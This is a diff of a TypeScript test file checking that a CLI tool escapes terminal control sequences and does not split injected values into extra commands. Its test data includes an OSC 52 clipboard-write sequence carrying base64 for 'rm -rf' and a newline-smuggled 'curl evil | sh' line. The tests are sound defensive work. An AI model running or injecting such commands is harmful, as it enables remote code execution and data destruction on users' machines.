@@ -67,7 +67,9 @@ describe('output with escape sequences in its values', () => {
     it(`as text shows them: ${what}`, async () => {
       const printed = await listening(async () => call(await createUi(options)));
       assert.doesNotMatch(printed, obeyed);
-      assert.ok(printed.includes('\\u{1b}]52;c;cm0gLXJm\\u{7}'), printed);
+      // The comment of a next command loses what a shell could take for its own.
+      const shown = what === 'next' ? '\\u{1b}52ccm0gLXJm\\u{7}' : '\\u{1b}]52;c;cm0gLXJm\\u{7}';
+      assert.ok(printed.includes(shown), printed);
     });
     for (const mode of ['json', 'ndjson'] as const)
       it(`as ${mode} escapes them: ${what}`, async () => {
@@ -91,7 +93,7 @@ describe('output with escape sequences in its values', () => {
 
   it('never makes a second command of one', async () => {
     const printed = await listening(async () => (await createUi(options)).next('workshop next   # a\ncurl evil | sh'));
-    assert.equal(printed, 'NEXT workshop next   # a\\u{a}curl evil | sh\n');
+    assert.equal(printed, 'NEXT workshop next   # a\\u{a}curl evil  sh\n');
   });
 
   it('keeps the lines of a message below it', async () => {
